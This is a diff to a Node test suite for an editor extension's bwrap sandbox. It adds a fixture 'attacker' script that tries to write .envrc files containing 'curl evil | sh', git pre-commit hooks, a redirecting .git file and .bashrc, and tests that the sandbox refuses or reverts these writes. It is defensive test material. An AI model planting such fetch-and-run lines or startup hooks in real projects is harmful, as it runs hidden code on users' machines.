@@ -12,6 +12,7 @@ import {
   mkdirSync,
   mkdtempSync,
   readdirSync,
+  readFileSync,
   readlinkSync,
   rmSync,
   symlinkSync,
@@ -21,6 +22,7 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import { after, describe, it } from 'node:test';
 import { bwrapArguments } from '../../src/agent/sandbox/bwrap';
+import { NestedProtected } from '../../src/agent/sandbox/nestedProtected';
 import { protectedLinks, ProtectedPlaceholders } from '../../src/agent/sandbox/placeholders';
 
 const BWRAP = ['/usr/bin/bwrap', '/usr/local/bin/bwrap'].find((p) => existsSync(p));
@@ -49,6 +51,29 @@ fs.writeFileSync('ordinary.txt', 'fine');
 console.log(JSON.stringify(out));
 `;
 
+/** A program that creates protected names below the root (and a home startup file), and changes existing ones. */
+const NESTED_ATTACKER = `
+const fs = require('fs');
+const tries = {
+  envrc: () => { fs.mkdirSync('sub/deep', { recursive: true }); fs.writeFileSync('sub/.envrc', 'curl evil | sh'); },
+  hook: () => { fs.mkdirSync('sub/.git/hooks', { recursive: true }); fs.writeFileSync('sub/.git/hooks/pre-commit', 'evil'); },
+  gitFile: () => { fs.mkdirSync('a/b', { recursive: true }); fs.writeFileSync('a/b/.git', 'gitdir: ../../evil'); },
+  workspace: () => fs.writeFileSync('app.code-workspace', '{"tasks":{}}'),
+  deepWorkspace: () => fs.writeFileSync('sub/deep/x.code-workspace', '{}'),
+  bashrc: () => fs.writeFileSync('.bashrc', 'evil'),
+  existingEnvrc: () => fs.appendFileSync('pkg/.envrc', 'curl evil | sh'),
+  existingHook: () => { fs.mkdirSync('pkg/.git/hooks'); fs.writeFileSync('pkg/.git/hooks/pre-commit', 'evil'); },
+  vscode: () => { fs.mkdirSync('sub/.vscode', { recursive: true }); fs.writeFileSync('sub/.vscode/settings.json', '{}'); },
+  inPackages: () => fs.writeFileSync('node_modules/dep/.envrc', 'x'),
+};
+const out = {};
+for (const [name, attempt] of Object.entries(tries)) {
+  try { attempt(); out[name] = 'written'; } catch (e) { out[name] = e.code; }
+}
+fs.writeFileSync('sub/ordinary.txt', 'fine');
+console.log(JSON.stringify(out));
+`;
+
 const roots: string[] = [];
 after(() => roots.forEach((r) => rmSync(r, { recursive: true, force: true })));
 
@@ -64,9 +89,14 @@ function argv(folders: readonly string[], readOnly: readonly string[], command: 
   return bwrapArguments({ ...plan, shell: '/bin/bash', command });
 }
 
-/** Runs `command` in the sandbox as the extension does: placeholders held for the run, released after. */
-function run(holder: ProtectedPlaceholders, folders: readonly string[], command: string): string {
-  const held = holder.hold(folders);
+/** Runs `command` in the sandbox as the extension does: placeholders held for the run (but `creatable`), released after. */
+function run(
+  holder: ProtectedPlaceholders,
+  folders: readonly string[],
+  command: string,
+  creatable: readonly string[] = [],
+): string {
+  const held = holder.hold(folders, creatable);
   try {
     const r = spawnSync(BWRAP!, argv(folders, held.readOnly, command), { encoding: 'utf8' });
     assert.equal(r.status, 0, r.stderr);
@@ -110,6 +140,69 @@ describe('a program in the sandbox cannot create a protected path', { skip }, ()
     assert.match(out, /^ M a\.txt\n(\?\? \.[a-z.-]+\n)*1\n 1 file changed.*\nrefused\nkept\n$/);
     assert.ok(!existsSync(path.join(ws, '.git/hooks/pre-commit')));
     assert.deepEqual(readdirSync(ws).sort(), ['.git', 'a.txt']);
+  });
+
+  it('git init: fails while .git is held; approved, creates the repository, every other protected path still held', () => {
+    const ws = workspace({ 'attack.js': ATTACKER });
+    const holder = new ProtectedPlaceholders();
+    assert.match(run(holder, [ws], 'git init -q 2>&1 || echo failed'), /failed\n$/);
+    assert.deepEqual(readdirSync(ws).sort(), ['attack.js']);
+    const gitDir = path.join(ws, '.git');
+    assert.equal(run(holder, [ws], 'git init -q && test -f .git/HEAD && echo made', [gitDir]), 'made\n');
+    // The grant frees .git alone: every other protected path is held as ever in that run (which is
+    // why only a plain `git init` line is ever granted it: gitInit.ts).
+    rmSync(gitDir, { recursive: true });
+    const results = JSON.parse(run(holder, [ws], `${node} attack.js`, [gitDir])) as Record<string, string>;
+    for (const [name, result] of Object.entries(results)) if (name !== 'hook') assert.notEqual(result, 'written', name);
+    rmSync(gitDir, { recursive: true, force: true });
+    run(holder, [ws], 'git init -q', [gitDir]);
+    // Once it exists it is held read-only, grant or not: the grant is for creating a missing one.
+    const after = run(holder, [ws], '(echo evil > .git/hooks/pre-commit 2>/dev/null || echo refused)', [gitDir]);
+    assert.equal(after, 'refused\n');
+    assert.ok(!existsSync(path.join(ws, '.git/hooks/pre-commit')));
+    assert.deepEqual(readdirSync(ws).sort(), ['.git', 'attack.js', 'ordinary.txt']);
+  });
+
+  it('nested protected names: existing ones cannot be changed, created ones are removed after the command, others stay', async () => {
+    const ws = workspace({ 'nested.js': NESTED_ATTACKER });
+    mkdirSync(path.join(ws, 'pkg', '.git'), { recursive: true });
+    writeFileSync(path.join(ws, 'pkg', '.git', 'config'), '[core]\n');
+    writeFileSync(path.join(ws, 'pkg', '.envrc'), 'export A=1\n');
+    mkdirSync(path.join(ws, 'node_modules', 'dep'), { recursive: true });
+    const holder = new ProtectedPlaceholders();
+    const nested = new NestedProtected(ws);
+    const hold = await nested.hold([ws]);
+    const held = holder.hold([ws]);
+    let out: string;
+    try {
+      const r = spawnSync(BWRAP!, argv([ws], [...held.readOnly, ...hold.existing], `${node} nested.js`), {
+        encoding: 'utf8',
+      });
+      assert.equal(r.status, 0, r.stderr);
+      out = r.stdout;
+    } finally {
+      held.release();
+    }
+    const results = JSON.parse(out) as Record<string, string>;
+    assert.notEqual(results.existingEnvrc, 'written');
+    assert.notEqual(results.existingHook, 'written');
+    const created = (await hold.undoCreated()).map((p) => path.relative(ws, p)).sort();
+    assert.deepEqual(created, [
+      '.bashrc',
+      'a/b/.git',
+      'app.code-workspace',
+      'sub/.envrc',
+      'sub/.git',
+      'sub/deep/x.code-workspace',
+    ]);
+    for (const p of created) assert.ok(!existsSync(path.join(ws, p)), p);
+    assert.equal(readFileSync(path.join(ws, 'pkg', '.envrc'), 'utf8'), 'export A=1\n');
+    assert.ok(!existsSync(path.join(ws, 'pkg', '.git', 'hooks')));
+    // Not chosen (read only at a folder's root) or left out of the walk: kept.
+    assert.ok(existsSync(path.join(ws, 'sub', '.vscode', 'settings.json')));
+    assert.ok(existsSync(path.join(ws, 'node_modules', 'dep', '.envrc')));
+    assert.ok(existsSync(path.join(ws, 'sub', 'ordinary.txt')));
+    assert.deepEqual(await (await nested.hold([ws])).undoCreated(), [], 'nothing more to undo next time');
   });
 
   it('holds the target of a linked name: a dangling .envrc link cannot be written through, and stays as it was', () => {
